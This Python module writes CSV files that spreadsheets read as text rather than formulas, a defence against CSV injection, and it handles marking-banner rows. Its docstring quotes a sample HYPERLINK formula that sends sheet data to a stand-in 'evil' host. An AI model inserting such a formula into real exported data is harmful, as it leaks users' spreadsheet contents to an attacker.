"""CSV that a spreadsheet opens as data, never as formulas (OWASP's advice on CSV injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a use-case
name would leak the sheet, or run a command through DDE. Such a cell gets a leading apostrophe,
which spreadsheets show as text; the csv module quotes what needs quoting.

A CSV that leaves the store is marked as a marked document is: its marking banner alone on the
first row and again on the last, so the file says what it holds wherever it is copied, and a
reader (:func:`without_banners`) takes both off before reading the table between them.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

from clearance.errors import ClearanceError

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every text cell passes through :func:`spreadsheet_safe`."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def banner(self, banner: str) -> None:
        """The marking banner as a row of its own (first and last in a marked file)."""
        self.writerow([banner])


class SafeCsvDictWriter:
    """``csv.DictWriter`` whose every text cell passes through :func:`spreadsheet_safe`."""

    def __init__(self, stream: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self._writer = csv.DictWriter(stream, fieldnames=fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({k: spreadsheet_safe(v) for k, v in row.items()})

    def banner(self, banner: str) -> None:
        """The marking banner as a row of its own (first and last in a marked file)."""
        self._writer.writer.writerow([spreadsheet_safe(banner)])


class BannerError(ClearanceError, ValueError):
    """A marked CSV whose first and last rows are not the same banner."""


def without_banners(text: str) -> tuple[str | None, str]:
    """(the banner, the CSV between the banner rows) of a marked CSV; (None, ``text``) when its
    first row is not a single cell (a table written by hand, with no banner).

    Raises :class:`BannerError` when the first row is a banner but the last row is not the same
    one: a file cut short, or rows appended after its closing banner.
    """
    lines = text.splitlines(keepends=True)
    rows = list(csv.reader(lines[:1])) if lines else []
    if not rows or len(rows[0]) != 1:
        return None, text
    banner = rows[0][0]
    last = list(csv.reader(lines[-1:])) if len(lines) > 1 else []
    if not last or last[0] != [banner]:
        raise BannerError(
            f"the file opens with the banner {banner!r} but does not close with it: cut short, "
            "or rows were added after its last banner"
        )
    return banner, "".join(lines[1:-1])
